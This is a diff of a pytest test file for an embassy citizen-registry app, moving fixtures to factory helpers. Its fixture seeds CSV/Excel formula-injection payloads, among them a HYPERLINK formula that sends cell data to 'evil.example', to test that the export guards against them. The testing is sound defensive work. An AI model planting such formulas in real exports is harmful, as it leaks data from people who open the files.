@@ -12,8 +12,8 @@ from django.test import Client
 from openpyxl import load_workbook
 
 from embassy.accounts.models import AuditEvent
-from embassy.citizens.models import Citizen
 from embassy.citizens.services import citizen_update, dependant_add, stay_register
+from embassy.citizens.tests.factories import CitizenFactory, StayFactory
 from embassy.citizens.where import export as where_export
 from embassy.common.tests.factories import bearer, make_staff, staff_client
 from embassy.missions.models import Role
@@ -25,17 +25,16 @@ EVIL_EMPLOYER = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 
 @pytest.fixture
 def people() -> None:
-    ani = Citizen.objects.create(full_name="Ani Rahayu")
+    ani = CitizenFactory(full_name="Ani Rahayu")
     citizen_update(citizen=ani, actor=None, data={"phone": "+60123456789", "email": "ani@example.com"})
     child = dependant_add(citizen=ani, actor=None, full_name="Dina", relationship="child")
     stay_register(citizen=ani, actor=None, lat=3.139, lon=101.6869, city="Kuala Lumpur", purpose="work",
                   occupation="domestic_worker", employer=EVIL_EMPLOYER, start_date=dt.date(2026, 1, 1),
                   dependants=[child.pk])
-    mallory = Citizen.objects.create(full_name="@SUM(1+1)*cmd")
+    mallory = CitizenFactory(full_name="@SUM(1+1)*cmd")
     stay_register(citizen=mallory, actor=None, lat=3.15, lon=101.7, city="-2+3", purpose="study",
                   start_date=dt.date(2026, 1, 1))
-    jeddah = Citizen.objects.create(full_name="Citra Jeddah")
-    stay_register(citizen=jeddah, actor=None, lat=21.5433, lon=39.1728, purpose="work", start_date=dt.date(2026, 1, 1))
+    StayFactory(citizen=CitizenFactory(full_name="Citra Jeddah"), lat=21.5433, lon=39.1728, purpose="work")
 
 
 def test_formula_guard() -> None:
